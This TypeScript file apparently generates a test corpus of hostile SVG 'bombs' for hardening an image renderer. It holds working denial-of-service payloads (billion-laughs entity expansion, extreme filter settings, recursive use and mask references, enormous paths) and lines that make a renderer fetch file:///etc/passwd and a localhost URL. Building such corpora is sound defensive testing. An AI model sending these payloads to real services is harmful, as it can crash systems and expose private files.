import type { Bomb } from "./pictures.ts";

const SIDE = 7_000;
const sides = `width="${SIDE}" height="${SIDE}"`;
const times = (count: number, make: (n: number) => string) =>
  Array.from({ length: count }, (_, n) => make(n)).join("");
const rect = (attributes = "") => `<rect ${sides} ${attributes}/>`;
const filtered = (primitives: string, shapes = rect('filter="url(#f)"')) =>
  `<filter id="f" x="0" y="0" width="1" height="1">${primitives}</filter>${shapes}`;

/**
 * SVGs that cause far more work than their size suggests, and some that refer to what they may not read.
 * @param picture a large image in few bytes
 */
export function drawings(picture: Buffer): Bomb[] {
  const image = (type: string, data: Buffer) =>
    `<image ${sides} href="data:image/${type};base64,${data.toString("base64")}"/>`;
  const inside = svg(image("png", picture).repeat(50));
  const bodies: Record<string, string> = {
    text: `<text>${"a".repeat(1_000_000)}</text>`,
    "long-runs": times(10, () => `<text y="9">${"a".repeat(1_990)}</text>`),
    spans: `<text>${times(9_000, () => '<tspan x="1" dy="1" rotate="3">ab</tspan>')}</text>`,
    digits: `<path d="${"1".repeat(1_000_000)}"/>`,
    "style-sheets": "<style>".repeat(90_000),
    selectors: `<style>${times(5_000, (n) => `g g g :not(.a${n}) .b${n} ~ .c{fill:red}`)}</style>${"<g>".repeat(200)}${times(40_000, () => '<rect class="c"/>')}${"</g>".repeat(200)}`,
    blur: filtered('<feGaussianBlur stdDeviation="500"/>'.repeat(90)),
    turbulence: filtered('<feTurbulence numOctaves="999999999" baseFrequency="9"/>'),
    morphology: filtered('<feMorphology radius="9999"/>', rect('filter="url(#f)"').repeat(50)),
    convolution: filtered(`<feConvolveMatrix order="99" kernelMatrix="${"1 ".repeat(9_801)}"/>`),
    "filter-image": `<filter id="f"><feImage href="#r"/></filter>${rect('id="r" filter="url(#f)"')}`,
    "nested-opacity": `${"<g opacity='.9'>".repeat(250)}${rect()}${"</g>".repeat(250)}`,
    "flat-opacity": `<g opacity=".5">${rect()}</g>`.repeat(2_000),
    masks: `${times(99, (n) => `<mask id="m${n}">${rect(`fill="#fff" mask="url(#m${n + 1})"`)}</mask>`)}${rect('mask="url(#m0)"').repeat(20)}`,
    patterns: `${times(20, (n) => `<pattern id="p${n}" width="1" height="1" patternUnits="userSpaceOnUse">${rect(`fill="url(#p${n + 1})"`)}</pattern>`)}${rect('fill="url(#p0)"')}`,
    uses: `<defs><g id="a0">${rect()}</g>${times(30, (n) => `<g id="a${n + 1}">${`<use href="#a${n}"/>`.repeat(10)}</g>`)}</defs><use href="#a30"/>`,
    "text-uses": `<defs><text id="a0" y="9">${"ab ".repeat(600)}</text>${times(4, (n) => `<g id="a${n + 1}">${`<use href="#a${n}"/>`.repeat(10)}</g>`)}</defs><use href="#a4"/>`,
    "own-use": '<g id="a"><use href="#a"/></g>',
    dashes: '<path d="M0 0H1e9" stroke="#000" stroke-width="9" stroke-dasharray="0.0001"/>',
    points: `<path d="M0 0${"L9 9L0 400".repeat(900_000)}" stroke="#000" stroke-width="30" stroke-linejoin="round"/>`,
    markers: `<marker id="m" markerWidth="999" markerHeight="999">${rect()}</marker><path marker-mid="url(#m)" d="M0 0${"L9 9".repeat(200_000)}"/>`,
    attributes: `<rect ${times(300_000, (n) => `a${n}="1" `)}/>`,
    pictures: image("png", picture).repeat(50),
    "drawings-inside": image("svg+xml", inside).repeat(3),
    files: `<image ${sides} href="file:///etc/passwd"/><image ${sides} href="http://127.0.0.1:9/a.png"/><style>@import url("file:///etc/passwd");</style>`,
  };
  const entities = (first: string, use: string, count: number) => {
    const rest = times(count, (n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`);
    return svg(use, { before: `<!DOCTYPE svg [<!ENTITY a0 "${first}">${rest}]>` });
  };
  return [
    ...Object.entries(bodies).map(([name, body]) => ({ name: `${name}.svg`, content: svg(body) })),
    { name: "laughs.svg", content: entities("ha", "<text>&a9;</text>", 9) },
    { name: "laughing-elements.svg", content: entities("<g/>", "&a6;", 6) },
    { name: "laughing-attribute.svg", content: entities("L9 9", '<path d="M0 0&a8;"/>', 8) },
  ];
}

export function svg(body: string, { before = "", side = SIDE } = {}): Buffer {
  return Buffer.from(
    `${before}<svg xmlns="http://www.w3.org/2000/svg" width="${side}" height="${side}">${body}</svg>`,
  );
}
